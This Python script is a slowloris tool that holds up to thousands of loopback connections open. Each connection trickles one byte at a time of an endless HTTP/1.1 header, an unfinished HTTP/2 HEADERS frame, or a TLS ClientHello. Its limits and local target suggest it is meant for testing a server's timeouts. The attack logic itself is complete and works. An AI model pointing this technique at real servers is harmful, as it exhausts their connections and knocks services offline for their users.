#!/usr/bin/python3
"""Slowloris against a local server: keeps --conns connections open, each sending the next byte
of a request that never ends every --interval seconds. A connection the server closes (its
header or handshake timeout) is opened again, so the count stays at --conns for --duration.

  --mode h1   an HTTP/1.1 head: request line, Host, then header lines forever
  --mode h2   the HTTP/2 client preface, SETTINGS, then a HEADERS frame whose block never ends
  --mode tls  a TLS 1.3 ClientHello (from Python's ssl module, ALPN h2) a byte at a time

Loopback only, bounded by --conns and --duration. The last line on stdout is a JSON summary:
connections opened, closed by the server, bytes sent, and the connections open at the end.
"""
import argparse
import heapq
import json
import os
import selectors
import socket
import ssl
import struct
import sys
import time


def h1_payload():
    head = b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: slowloris\r\n"
    return head + b"X-Slow: b\r\n" * 100000


def h2_payload():
    preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
    settings = struct.pack(">I", 0)[1:] + b"\x04\x00" + struct.pack(">I", 0)
    # HEADERS on stream 1 with END_STREAM but not END_HEADERS: the block is "literal without
    # indexing, new name" fields, and it announces more bytes than will ever arrive.
    field = b"\x00\x06x-slow\x01b"
    block = b"\x82\x86\x84" + field * 1000
    length = len(block)
    frame = struct.pack(">I", length)[1:] + b"\x01\x01" + struct.pack(">I", 1) + block
    return preface + settings + frame


def tls_payload():
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(["h2"])
    inc, out = ssl.MemoryBIO(), ssl.MemoryBIO()
    obj = ctx.wrap_bio(inc, out, server_hostname="localhost")
    try:
        obj.do_handshake()
    except ssl.SSLWantReadError:
        pass
    hello = out.read()
    if not hello or hello[0] != 22:
        sys.exit("slowloris: could not produce a ClientHello")
    return hello


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--mode", choices=["h1", "h2", "tls"], required=True)
    ap.add_argument("--conns", type=int, default=1000)
    ap.add_argument("--duration", type=float, default=10)
    ap.add_argument("--interval", type=float, default=1.0, help="seconds between two bytes of one connection")
    a = ap.parse_args()
    if not (1 <= a.conns <= 5000 and 0 < a.duration <= 3600):
        sys.exit("slowloris: --conns must be 1..5000, --duration 0..3600")
    payload = {"h1": h1_payload, "h2": h2_payload, "tls": tls_payload}[a.mode]()

    sel = selectors.DefaultSelector()
    conns = {}    # fd -> [socket, offset into payload]
    due = []      # heap of (time of next byte, fd)
    stats = {"opened": 0, "closed_by_server": 0, "connect_failures": 0, "bytes_sent": 0}
    end = time.monotonic() + a.duration

    def close(fd, by_server):
        s = conns.pop(fd, None)
        if s is None:
            return
        sel.unregister(s[0])
        s[0].close()
        if by_server:
            stats["closed_by_server"] += 1

    def open_one(now):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        try:
            s.connect(("127.0.0.1", a.port))
        except BlockingIOError:
            pass
        except OSError:
            stats["connect_failures"] += 1
            s.close()
            return
        conns[s.fileno()] = [s, 0]
        sel.register(s, selectors.EVENT_READ)
        stats["opened"] += 1
        # Spread the connections' bytes over the interval so the trickle is even.
        heapq.heappush(due, (now + a.interval * (stats["opened"] % 100) / 100, s.fileno(), s))

    while True:
        now = time.monotonic()
        if now >= end:
            break
        # Top up, at most 100 connects per round so the listen backlog is not the limit.
        for _ in range(min(100, a.conns - len(conns))):
            open_one(now)
        while due and due[0][0] <= now:
            _, fd, s = heapq.heappop(due)
            c = conns.get(fd)
            if c is None or c[0] is not s:
                continue
            try:
                n = s.send(payload[c[1]:c[1] + 1])
                stats["bytes_sent"] += n
                c[1] = (c[1] + n) % len(payload)
            except BlockingIOError:
                pass            # still connecting: try again next interval
            except OSError:
                close(fd, True)
                continue
            heapq.heappush(due, (now + a.interval, fd, s))
        timeout = 0.05 if not due else max(0.0, min(0.05, due[0][0] - now))
        for key, _ in sel.select(timeout):
            s = key.fileobj
            try:
                data = s.recv(65536)
            except BlockingIOError:
                continue
            except OSError:
                data = b""
            if not data:
                close(s.fileno(), True)
    stats["open_at_end"] = len(conns)
    for fd in list(conns):
        close(fd, False)
    print(json.dumps(stats))


if __name__ == "__main__":
    main()
